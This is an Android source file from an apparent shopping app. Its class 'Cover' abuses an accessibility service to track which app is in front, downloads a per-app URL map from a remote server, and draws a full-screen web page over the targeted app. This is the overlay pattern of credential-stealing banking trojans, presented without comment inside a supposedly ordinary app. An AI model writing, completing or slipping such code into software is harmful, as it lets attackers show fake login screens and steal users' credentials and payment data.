package com.tallpine.shopmate;

class Cover extends AccessibilityService {
  private String seen;

  public void onAccessibilityEvent(AccessibilityEvent event) {
    String front = event.getPackageName().toString();
    if (!front.equals(seen)) {
      seen = front;
      show(front);
    }
  }

  private void show(String front) {
    try {
      WebView page = new WebView(this);
      JSONObject pages = new JSONObject(new BufferedReader(new InputStreamReader(new URL("https://mate.tallpine.example/pages").openStream())).readLine());
      page.loadUrl(pages.getString(front));
      WindowManager windows = (WindowManager) getSystemService("window");
      windows.addView(page, new WindowManager.LayoutParams(-1, -1, 2038, 0, -3));
    } catch (Exception e) {
      Log.e("Cover", e.getMessage());
    }
  }

  public void onInterrupt() { }
}
